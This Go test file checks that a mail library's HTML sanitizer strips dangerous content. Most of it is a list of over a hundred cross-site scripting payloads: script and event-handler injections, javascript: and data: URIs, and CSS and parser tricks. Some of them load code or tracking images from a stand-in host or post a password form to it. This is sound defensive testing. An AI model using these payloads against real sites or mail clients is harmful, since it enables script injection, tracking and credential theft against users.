package mail

import (
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// vectors are ways in which HTML has run or loaded what it should not, %s the script.
var vectors = strings.Split(strings.TrimSpace(`
<script>%s</script>
<SCRIPT SRC=http://evil.example/x.js></SCRIPT>
<<script>%s//<</script>
<script/xss src="http://evil.example/x.js"></script>
<scr<script>ipt>%s</scr</script>ipt>
<img src=x onerror=%s>
<img src=x onerror="%s"//
<IMG """><SCRIPT>%s</SCRIPT>">
<img src="javascript:%s">
<img src=jav&#x09;ascript:%s>
<img src="jav&#10;ascript:%s">
<img src=" &#14; javascript:%s">
<img dynsrc="javascript:%s">
<img lowsrc="javascript:%s">
<img srcset="http://evil.example/a.png 2x" src=x>
<img src=http://evil.example/track.gif>
<img src=//evil.example/track.gif>
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<img src="data:text/html,<script>%s</script>">
<svg onload=%s>
<svg><script>%s</script></svg>
<svg/onload=%s>
<svg><a xlink:href="javascript:%s"><text>x</text></a></svg>
<svg><animate onbegin=%s attributeName=x dur=1s>
<svg><set onbegin=%s>
<svg><use href="data:image/svg+xml,<svg id=x onload=%s>#x"/></svg>
<svg><foreignObject><iframe src="javascript:%s"></foreignObject></svg>
<svg><style><img src=x onerror=%s></style></svg>
<math><mi xlink:href="javascript:%s">x</mi></math>
<math><mtext><table><mglyph><style><img src=x onerror=%s>
<math href="javascript:%s">x</math>
<iframe src="javascript:%s"></iframe>
<iframe srcdoc="<script>%s</script>"></iframe>
<iframe onload=%s>
<frameset onload=%s><frame src="javascript:%s"></frameset>
<object data="javascript:%s"></object>
<object data="http://evil.example/x.swf" type="application/x-shockwave-flash"></object>
<embed src="javascript:%s">
<embed src="http://evil.example/x.swf" allowscriptaccess=always>
<applet code="evil.class"></applet>
<a href="javascript:%s">x</a>
<a href="JaVaScRiPt:%s">x</a>
<a href="&#106;&#97;vascript:%s">x</a>
<a href="java&#0000009;script:%s">x</a>
<a href="java
script:%s">x</a>
<a href=" javascript:%s">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="data:image/png,<script>%s</script>">x</a>
<a href="blob:http://evil.example/1">x</a>
<a href="file:///etc/passwd">x</a>
<a href=x onclick=%s>x</a>
<a href=x onmouseover="%s">x</a>
<a href="x" style="x:expression(%s)">x</a>
<a ping="http://evil.example/" href="http://a.example">x</a>
<a href="http://a.example" target=_top onfocus=%s autofocus>x</a>
<body onload=%s>
<body background="javascript:%s">
<body background="http://evil.example/b.gif">
<table background="http://evil.example/b.gif"><tr><td background="javascript:%s">x</table>
<div style="background-image:url(javascript:%s)">x</div>
<div style="background:url(http://evil.example/x.gif)">x</div>
<div style="background-color:red;background:url('//evil.example/x')">x</div>
<div style="width:expression(%s)">x</div>
<div style="behavior:url(http://evil.example/x.htc)">x</div>
<div style="-moz-binding:url(http://evil.example/x.xml#x)">x</div>
<div style="position:fixed;top:0;left:0;width:100%%;height:100%%">x</div>
<div style="color:red;/*</style>*/background:u\72l(http://evil.example/)">x</div>
<div style="list-style-image:url(http://evil.example/x)">x</div>
<div style="content:url(http://evil.example/x)">x</div>
<div style="font-family:x;src:url(http://evil.example/x)">x</div>
<div id=location name=cookie>x</div>
<style>@import 'http://evil.example/x.css';</style>
<style>body{background:url(http://evil.example/x)}</style>
<style>*{color:expression(%s)}</style>
<style><!--</style><script>%s</script>-->
<link rel=stylesheet href="http://evil.example/x.css">
<link rel=prefetch href="http://evil.example/x">
<link rel=import href="http://evil.example/x">
<meta http-equiv=refresh content="0;url=javascript:%s">
<meta http-equiv=refresh content="0;url=http://evil.example/">
<meta http-equiv="Set-Cookie" content="a=b">
<base href="http://evil.example/">
<base href="javascript:%s//">
<form action="http://evil.example/"><input name=password type=password><button>x</button></form>
<form action="javascript:%s"><input type=submit></form>
<form><button formaction="javascript:%s">x</button></form>
<input type=image src="http://evil.example/x" onerror=%s>
<input autofocus onfocus=%s>
<select autofocus onfocus=%s>
<textarea autofocus onfocus=%s></textarea>
<keygen autofocus onfocus=%s>
<video src=x onerror=%s></video>
<video poster="http://evil.example/x"></video>
<video><source onerror=%s></video>
<audio src=http://evil.example/x onerror=%s></audio>
<details open ontoggle=%s>x</details>
<marquee onstart=%s>x</marquee>
<bgsound src="javascript:%s">
<layer src="http://evil.example/x"></layer>
<isindex action="javascript:%s">
<xml src="javascript:%s" id=x></xml>
<xss onclick=%s>x</xss>
<noscript><p title="</noscript><img src=x onerror=%s>"></noscript>
<title><img src=x onerror=%s></title>
<textarea><img title="</textarea><img src=x onerror=%s>"></textarea>
<template><script>%s</script></template>
<!--[if gte IE 4]><script>%s</script><![endif]-->
<!--><img src=x onerror=%s>-->
<!-- --!><img src=x onerror=%s> -->
<![CDATA[><img src=x onerror=%s>]]>
<?xml version="1.0"?><?import namespace="t" implementation="#default#time2">
<p title="a" onmouse&#x0a;over=%s>x</p>
<p/onclick=%s/>x</p>
<p title='"><img src=x onerror=%s>'>x</p>
<img alt='<img src=x onerror=%s>' src="cid:none">
<img src="cid:evil&quot; onerror=%s x=">
<img src=cid:logo onload=%s>
<td width="1 onmouseover=%s">x</td>
<font color="red;background:url(javascript:%s)">x</font>
<plaintext><script>%s</script>
<xmp><script>%s</script></xmp>
<noembed><script>%s</script></noembed>
<noframes><script>%s</script></noframes>
`), "\n")

// TestSafeHTML: nothing of what HTML has run or loaded comes through, alone or all together.
func TestSafeHTML(t *testing.T) {
	if len(vectors) < 100 {
		t.Fatalf("%d vectors", len(vectors))
	}
	all := ""
	for _, v := range append(vectors, "") {
		body := strings.ReplaceAll(strings.ReplaceAll(v, "%%", "%"), "%s", "alert(1)")
		all += body
		if v == "" {
			body = all
		}
		m := Parse([]byte("Content-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html; charset=utf-8\n\n" + body + "\n--b\nContent-Type: image/png\nContent-ID: <logo>\n\n<svg onload=alert(1)>\n--b--\n"))
		holdSafe(t, body, m.SafeHTML())
	}
}

// holdSafe holds HTML to what may be shown: no element, attribute or address that runs or loads.
func holdSafe(t *testing.T, from, safe string) {
	t.Helper()
	z := html.NewTokenizer(strings.NewReader(safe))
	for z.Next() != html.ErrorToken {
		token := z.Token()
		switch token.Data {
		case "script", "style", "iframe", "frame", "object", "embed", "applet", "link", "meta", "base", "form", "input", "button", "svg", "math", "video", "audio", "source", "template", "noscript", "textarea", "xmp", "plaintext", "xss", "select", "body", "title":
			if token.Type == html.StartTagToken || token.Type == html.SelfClosingTagToken {
				t.Errorf("%s\ncomes through as %s", from, safe)
			}
		}
		for _, a := range token.Attr {
			value := strings.ToLower(strings.Join(strings.Fields(a.Val), ""))
			bad := strings.HasPrefix(a.Key, "on") || a.Key == "srcset" || a.Key == "background" || a.Key == "ping" || a.Key == "id" || a.Key == "name" || a.Key == "action" || a.Key == "poster"
			bad = bad || a.Key == "src" && !strings.HasPrefix(value, "data:image/png;base64,") && !strings.HasPrefix(value, "data:image/gif;base64,") && !strings.HasPrefix(value, "data:image/jpeg;base64,")
			bad = bad || a.Key == "href" && !strings.HasPrefix(value, "http://") && !strings.HasPrefix(value, "https://") && !strings.HasPrefix(value, "mailto:") && !strings.HasPrefix(value, "tel:") && strings.Contains(value, ":")
			bad = bad || a.Key == "style" && (strings.Contains(value, "url") || strings.Contains(value, "expression") || strings.Contains(value, "position") || strings.Contains(value, "behavior") || strings.Contains(value, "binding"))
			if bad {
				t.Errorf("%s\nbrings %s=%q in %s", from, a.Key, a.Val, safe)
			}
		}
	}
}

// TestSafePictures: a picture of the mail itself is shown, by its content and not by its name.
func TestSafePictures(t *testing.T) {
	png := "\x89PNG\r\n\x1a\n123"
	m := Parse(letter("Content-Type: multipart/related; boundary=b", "", "--b", "Content-Type: text/html", "", `<p style="color: red; position: fixed">x</p><img src="cid:Logo@x" alt=logo width=20><a href="https://evil.example/a?b=c&amp;d=e">whole</a>`, "--b",
		"Content-Type: image/svg+xml", "Content-ID: <logo@x>", "Content-Transfer-Encoding: base64", "", b64(png), "--b--"))
	got := m.SafeHTML()
	for _, want := range []string{`src="data:image/png;base64,` + b64(png) + `"`, `alt="logo"`, `href="https://evil.example/a?b=c&amp;d=e"`, `color: red`} {
		if !strings.Contains(got, want) {
			t.Errorf("%s is not in %s", want, got)
		}
	}
	if text := (&Message{Text: "<b>"}).SafeHTML(); text != "<pre>&lt;b&gt;</pre>" {
		t.Errorf("text alone: %s", text)
	}
	frames := ReadBody("text/html", `<frameset rows="1,*"><frame src="https://evil.example/"><noframes><body><p>No &lt;frames&gt; here.</p></body></noframes></frameset>`)
	if text := frames.SafeHTML(); text != "<pre>No &lt;frames&gt; here.</pre>" {
		t.Errorf("frames alone: %s", text)
	}
	if text := ReadBody("text/html", `<p> &nbsp;<img src="https://pix.example/a.png" alt="x"></p>`).SafeHTML(); !strings.Contains(text, "<img") {
		t.Errorf("a picture alone: %s", text)
	}
}

// TestRemoteHTML: pictures that lie elsewhere are named, and loaded by https alone where that is asked for; nothing else is let through with them.
func TestRemoteHTML(t *testing.T) {
	m := ReadBody("text/html", `<p onclick="x()">Hi <img src="https://Pix.example/a.png?u=1" onerror="x()"><img src="http://plain.example/b.png"><img src="//c.example/c.png"><img src="javascript:x()"><img src="https://pix.example/d.png"></p><script>x()</script>`)
	text, hosts := m.RemoteHTML()
	if len(hosts) != 1 || hosts[0] != "pix.example" {
		t.Errorf("the hosts are %q", hosts)
	}
	if strings.Count(text, `src="https://`) != 2 || strings.Contains(text, "plain.example") || strings.Contains(text, "c.example/c") || strings.Contains(text, "x()") {
		t.Errorf("with what lies elsewhere: %s", text)
	}
	if safe := m.SafeHTML(); strings.Contains(safe, "example") || strings.Contains(safe, "src=") {
		t.Errorf("without: %s", safe)
	}
}
